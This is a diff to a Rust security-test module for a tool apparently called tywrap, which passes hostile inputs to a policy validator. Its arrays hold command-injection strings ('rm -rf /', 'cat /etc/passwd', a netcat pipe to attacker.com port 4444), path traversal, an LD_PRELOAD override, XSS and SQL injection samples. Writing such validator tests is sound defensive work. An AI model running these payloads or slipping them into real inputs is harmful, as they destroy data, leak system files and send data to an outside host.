@@ -10,13 +10,8 @@ use tywrap_policy::{Code, SecurityValidator};
 use super::facts::Facts;
 use super::line::Line;
 
-const MODULES: [&str; 5] = [
-    "math; rm -rf /",
-    "numpy && cat /etc/passwd",
-    "pandas | nc attacker.com 4444",
-    "scipy `whoami`",
-    "requests $(id)",
-];
+const MODULES: [&str; 5] =
+    ["math; rm -rf /", "numpy && cat /etc/passwd", "pandas | nc attacker.com 4444", "scipy `whoami`", "requests $(id)"];
 
 const PATHS: [&str; 5] = [
     "../../../../etc/passwd",
@@ -36,7 +31,11 @@ const VARIABLES: [(&str, &str); 2] = [("MALICIOUS_VAR", "x"), ("LD_PRELOAD", "/t
 const TEXTS: [&str; 4] = ["alert(\"xss\")", "${evil_code}", "`command_injection`", "'; DROP TABLE users; --"];
 
 pub(super) fn line(facts: &Facts<'_>) -> Line {
-    let mut line = Line::new(&["`cargo test -p tywrap-policy --test security_suite`", "`tywrap.toml`"]);
+    let mut line = Line::new(&[
+        "`cargo tywrap doctor --checklist`",
+        "`subprocess.command-whitelist`",
+        "`subprocess.allowed-environment-vars`",
+    ]);
     let validator = SecurityValidator::new(&facts.policy);
     let mut accepted = Vec::new();
     let mut note = |what: &str, input: &str, is_accepted: bool| {
